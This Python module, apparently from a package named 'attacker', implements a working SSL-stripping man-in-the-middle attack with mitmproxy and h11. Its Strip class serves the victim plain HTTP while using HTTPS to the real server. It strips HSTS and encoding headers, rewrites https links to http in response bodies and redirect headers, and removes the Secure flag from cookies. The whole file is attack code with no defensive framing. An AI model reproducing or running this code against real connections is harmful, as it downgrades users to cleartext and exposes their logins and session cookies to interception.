"""HTTP at an active door: passed on and read, or stripped of its TLS."""

import re
from collections.abc import Iterator

import h11
from mitmproxy.connection import Server
from mitmproxy.proxy import events, layer
from mitmproxy.proxy.context import Context

from attacker.between import Between
from attacker.doors import Door

_SECURE, _PLAIN = b"https://", b"http://"
_TEXT = re.compile(rb"text/|json|xml|javascript")
_COOKIE_IS_SECURE = re.compile(rb";\s*secure\b", re.IGNORECASE)
# The service must not compress what is to be rewritten, nor turn to another protocol. h11 measures bodies anew.
_NOT_PASSED_ON = {b"accept-encoding", b"upgrade", b"strict-transport-security"}
# Requests that a client may send before it has the answer to the first.
_MOST_AHEAD = 64 * 1024

Headers = list[tuple[bytes, bytes]]


class Relay(Between):
    """Passes on what either side says, over the kind of link that the client has chosen."""

    def _handle_event(self, event: events.Event) -> layer.CommandGenerator[None]:
        client = self.context.client
        if isinstance(event, events.Start):
            self._note_tls("client", client)
        elif isinstance(event, events.DataReceived):
            self._note_clear(event.connection, event.data, received=True)
            if event.connection != client:
                yield from self._say(client, event.data)
            elif self._server or (yield from self._call("tls" if client.tls else "plain")):
                yield from self._say(self._server, event.data)
        elif isinstance(event, events.ConnectionClosed):
            yield from self._hang_up()


class Strip(Between):
    """HTTP with the client, HTTPS with the server. The client never learns that there was a choice."""

    def __init__(self, context: Context, door: Door, links: dict[str, Server], notes: object) -> None:
        super().__init__(context, door, links, notes)
        self._to_client, self._to_server = h11.Connection(h11.SERVER), h11.Connection(h11.CLIENT)
        self._rewrites, self._held = False, b""

    def _handle_event(self, event: events.Event) -> layer.CommandGenerator[None]:
        client = self.context.client
        try:
            if isinstance(event, events.DataReceived):
                self._note_clear(event.connection, event.data, received=True)
                (self._to_client if event.connection == client else self._to_server).receive_data(event.data)
                yield from self._talk()
            elif isinstance(event, events.ConnectionClosed):
                if event.connection == self._server:  # where that is what ends an answer, it is whole now
                    self._to_server.receive_data(b"")
                    yield from self._talk()
                yield from self._hang_up()
        except h11.ProtocolError as why:
            self._notes.event("client", failed=str(why))
            yield from self._hang_up()

    def _talk(self) -> layer.CommandGenerator[None]:
        going_on = True
        while going_on:
            for event in _said(self._to_client):
                if isinstance(event, h11.Request) and not self._server and not (yield from self._call("tls")):
                    return
                yield from self._say(self._server, self._to_server.send(_asked(event)))
            for event in _said(self._to_server):
                for part in self._answered(event):
                    yield from self._say(self.context.client, self._to_client.send(part))
            sides = (self._to_client, self._to_server)
            going_on = all(side.our_state is side.their_state is h11.DONE for side in sides)
            if going_on:
                for side in sides:
                    side.start_next_cycle()
            elif h11.MUST_CLOSE in (self._to_client.our_state, self._to_server.our_state):
                yield from self._hang_up()

    def _answered(self, event: h11.Event) -> Iterator[h11.Event]:
        """What the client gets to hear instead."""
        if isinstance(event, h11.Response):
            kind = dict(event.headers).get(b"content-type", b"")
            self._rewrites = bool(_TEXT.search(kind))
            headers = [each for each in map(_stripped, _kept(event)) if each[0].lower() != b"content-length"]
            yield h11.Response(status_code=event.status_code, headers=headers, reason=event.reason)
        elif isinstance(event, h11.Data):
            # A link may be cut in two by the chunks: what could be the beginning of one waits for the rest.
            text = (self._held + bytes(event.data)).replace(_SECURE, _PLAIN) if self._rewrites else bytes(event.data)
            waiting = next((n for n in range(len(_SECURE) - 1, 0, -1) if text.endswith(_SECURE[:n])), 0)
            cut = len(text) - waiting * self._rewrites
            self._held = text[cut:]
            yield h11.Data(data=text[:cut])
        elif isinstance(event, h11.EndOfMessage):
            held, self._held = self._held, b""
            yield h11.Data(data=held)
            yield h11.EndOfMessage(headers=_kept(event))
        else:
            yield event


def _said(side: h11.Connection) -> Iterator[h11.Event]:
    """What has arrived whole. Raises h11's ProtocolError for what is no HTTP."""
    while True:
        event = side.next_event()
        if event is h11.PAUSED and len(side.trailing_data[0]) > _MOST_AHEAD:
            raise h11.RemoteProtocolError("requests without waiting for an answer")
        if event in (h11.NEED_DATA, h11.PAUSED) or isinstance(event, h11.ConnectionClosed):
            return
        yield event


def _asked(event: h11.Event) -> h11.Event:
    if isinstance(event, h11.Request):
        return h11.Request(method=event.method, target=event.target, headers=_kept(event))
    return event


def _kept(event: h11.Request | h11.Response | h11.EndOfMessage) -> Headers:
    return [(name, value) for name, value in event.headers.raw_items() if name.lower() not in _NOT_PASSED_ON]


def _stripped(header: tuple[bytes, bytes]) -> tuple[bytes, bytes]:
    """A header of an answer, without what would lead back to TLS or be lost without it."""
    name, value = header
    match name.lower():
        case b"location" | b"content-location" | b"link" | b"refresh":
            return name, value.replace(_SECURE, _PLAIN)
        case b"set-cookie":
            return name, _COOKIE_IS_SECURE.sub(b"", value)
    return header
